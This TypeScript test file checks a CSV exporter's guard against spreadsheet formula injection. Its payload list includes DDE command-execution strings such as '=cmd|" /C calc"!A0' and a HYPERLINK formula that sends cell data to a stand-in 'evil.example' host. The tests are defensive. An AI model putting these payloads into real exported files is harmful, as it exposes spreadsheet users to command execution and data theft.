import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { column, nodeCsv, step, toCsv } from '../support';

const FORMULAS: readonly string[] = [
  '=1+1',
  '=',
  '=cmd|" /C calc"!A0',
  '+cmd|" /C calc"!A0',
  '-cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '@',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3+A1',
  '-A1',
  '+A1',
  '-1e',
  '-1E5A',
  '+(A1)',
  '\t=1',
  '\tplain text behind a tab',
  '\rplain text behind a carriage return',
  '\nplain text behind a line feed',
  '\t+49 30',
  '\n-5',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\0=1+1',
  ' \0 @x',
  '\u2003-SUM(A1)',
  '\uFF1D1+1',
  '\uFF0BA1',
  '\uFF0DA1',
  '\uFF20SUM(A1)',
  ' \uFF1D1',
  '+49 30 1; =1+1',
  '-1; SUM(A1)',
  '-1|cmd',
];

const HARMLESS: readonly string[] = [
  '',
  '0',
  '12',
  '-12',
  '-12.5',
  '+12.5',
  '-12,50',
  '-1.234,56',
  '-1 234,56',
  '-12.5e3',
  '-1E-7',
  '+5e+3 ',
  '-5 %',
  '-1/2',
  '+49 (0)30 901820-15',
  '+1 555-0100',
  '(030) 901820',
  '+49 30 1; +49 30 2',
  '-1; -2; 3',
  '-1 | -2',
  '-',
  '--',
  '- -',
  ' -12',
  'a=b',
  'a@b.example',
  "'=already text",
  '"=quoted"',
  'minus −5, en dash – and em dash —',
  '–5',
  'SUM(A1)',
];

describe('the formula guard', () => {
  for (const text of FORMULAS) {
    it(`puts an apostrophe in front of ${JSON.stringify(text)}`, async () => {
      const { file, warnings } = await toCsv([column(0, 'text'), column(1, 'text')], [[text, 'x']]);
      assert.deepEqual(nodeCsv(file)[1], [`'${text}`, 'x']);
      assert.deepEqual(warnings, { 'formulas-neutralised': 1 });
    });
  }

  it('leaves numbers, phone numbers, dashes and other text alone', async () => {
    const { file, warnings } = await toCsv(
      [column(0, 'text'), column(1, 'text')],
      HARMLESS.map((text) => [text, 'x']),
    );
    assert.deepEqual(
      nodeCsv(file)
        .slice(1)
        .map(([text]) => text),
      HARMLESS,
    );
    assert.deepEqual(warnings, {});
  });

  it('counts every cell it changed', async () => {
    const rows = [
      ['=1', '=2'],
      ['x', '=3'],
    ];
    const { warnings } = await toCsv([column(0, 'text'), column(1, 'text')], rows, { batch: 1 });
    assert.deepEqual(warnings, { 'formulas-neutralised': 3 });
  });

  it('can be switched off, and then changes and counts nothing', async () => {
    const columns = [column(0, 'text', { header: '=1' }), column(1, 'text')];
    const { file, warnings } = await toCsv(
      columns,
      FORMULAS.map((text) => [text, 'x']),
      { formulaGuard: false },
    );
    assert.deepEqual(
      nodeCsv(file).map(([text]) => text),
      ['=1', ...FORMULAS],
    );
    assert.deepEqual(warnings, {});
  });

  it('guards headers, which a caller chooses', async () => {
    const { file, warnings } = await toCsv([column(0, 'text', { header: '=cmd|x' })], []);
    assert.deepEqual(nodeCsv(file), [["'=cmd|x"]]);
    assert.deepEqual(warnings, { 'formulas-neutralised': 1 });
  });

  it('guards what a date pattern makes, which a caller chooses', async () => {
    const format = { kind: 'date', pattern: '=A1&"yyyy"' } as const;
    const { file } = await toCsv([column(0, 'date', { format })], [['2026-02-03']]);
    assert.deepEqual(nodeCsv(file)[1], [`'=A1&"2026"`]);
  });

  it('leaves the numbers of number columns alone', async () => {
    const columns = [column(0, 'integer'), column(1, 'decimal'), column(2, 'float'), column(3, 'biginteger')];
    const { text, warnings } = await toCsv(columns, [
      [-5, '-12.50', -1e21, '-9007199254740993'],
      [5, '12', '-Infinity', null],
    ]);
    assert.deepEqual(text.split('\r\n').slice(1, 3), ['-5,-12.50,-1e+21,-9007199254740993', '5,12,-Infinity,']);
    assert.deepEqual(warnings, {});
  });

  it('looks at a joined cell as a whole', async () => {
    const many = (index: number) => column(0, 'text', { steps: [step('tags', index, true)] });
    const { file, warnings } = await toCsv(
      [many(0), many(1)],
      [
        [
          [['safe'], ['=1']],
          [['=1'], ['safe']],
        ],
      ],
    );
    assert.deepEqual(nodeCsv(file)[1], ['safe; =1', "'=1; safe"]);
    assert.deepEqual(warnings, { 'formulas-neutralised': 1 });
  });

  it('costs linear time on text made to be slow', async () => {
    const length = 200_000;
    const rows = [' ', '1', ';', '; ', ';+', '-', '\n', '1e'].map(
      (part) => [`+${part.repeat(length)}x`, null] as const,
    );
    const started = performance.now();
    await toCsv([column(0, 'text'), column(1, 'text')], rows);
    assert.ok(performance.now() - started < 2_000);
  });
});
